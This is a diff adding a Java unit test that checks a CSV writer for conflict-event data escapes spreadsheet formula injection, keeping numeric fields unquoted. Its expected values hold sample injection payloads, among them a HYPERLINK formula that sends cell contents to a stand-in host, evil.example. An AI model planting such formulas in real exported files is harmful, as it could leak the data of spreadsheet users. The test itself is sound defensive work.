@@ -169,6 +169,25 @@ class AcledCsvWriterTest {
     }
 
     @Test
+    void textCellsASpreadsheetWouldReadAsFormulasStartWithAQuoteAndNumbersStayNumbers() {
+        Map<String, String> row = row(fixtures.representation(id, Fixtures.formulas(fixtures.battle())));
+
+        assertThat(row).containsEntry("notes", "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")")
+                .containsEntry("location", "'@SUM(1+1)")
+                .containsEntry("admin1", "'+1")
+                .containsEntry("admin2", "'-2+3")
+                .containsEntry("admin3", "'\tcmd")
+                .containsEntry("country", "'\r=1")
+                .containsEntry("source", "'=1+1; plain title")
+                .containsEntry("ledger_term", "''=already quoted")
+                .containsEntry("event_id_cnty", "'-AZE1")
+                .containsEntry("latitude", "-12.5")
+                .containsEntry("longitude", "-0.75")
+                .containsEntry("ledger_confidence", "0.8");
+        assertThat(row.get("ledger_sources")).startsWith("[");
+    }
+
+    @Test
     void streamIsUtf8() throws Exception {
         ConflictEventDetails battle = fixtures.battle();
         ConflictEventDetails shusha = new ConflictEventDetails(battle.theater(), battle.type(), battle.subType(),
